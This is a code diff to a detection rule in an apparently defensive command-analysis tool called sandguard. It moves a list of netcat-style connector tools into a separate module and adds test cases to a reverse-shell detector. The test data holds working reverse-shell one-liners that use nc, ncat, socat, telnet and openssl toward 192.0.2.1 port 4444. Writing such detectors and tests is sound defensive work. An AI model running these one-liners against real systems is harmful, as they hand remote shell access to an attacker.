@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from sandguard.commands.connections import CONNECTORS
 from sandguard.commands.effects import Fetches, Listens, Runs, RunsCode, Sends, StartsShell, Writes
 from sandguard.flow.program import CodeUse
 from sandguard.rules.rule import Match, rule
@@ -15,7 +16,6 @@ if TYPE_CHECKING:
     from sandguard.flow.program import Invocation, Program
 
 NETWORKS = (Fetches, Listens, Sends)
-CONNECTORS = ("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd")
 
 
 @rule(
@@ -32,6 +32,8 @@ CONNECTORS = ("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd")
         "ncat 192.0.2.1 4444 --exec /bin/bash",
         "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
         "mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4444 > f",
+        "mkfifo f; cat f | sh -i 2>&1 | telnet 192.0.2.1 4444 > f",
+        "mkfifo f; cat f | sh -i 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > f",
     ),
     no_match=(
         "nc -z localhost 80",
@@ -39,6 +41,8 @@ CONNECTORS = ("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd")
         "sh build.sh | nc 192.0.2.1 4444 > answer.txt",
         "echo 'nc -e /bin/sh 192.0.2.1 4444'",
         "socat -V",
+        "sh build.sh | openssl s_client -connect example.com:443 > answer.txt",
+        "mkfifo f; cat f | wc -l | telnet 192.0.2.1 4444 > f",
     ),
 )
 def remote_shell(program: Program) -> Iterator[Match]:
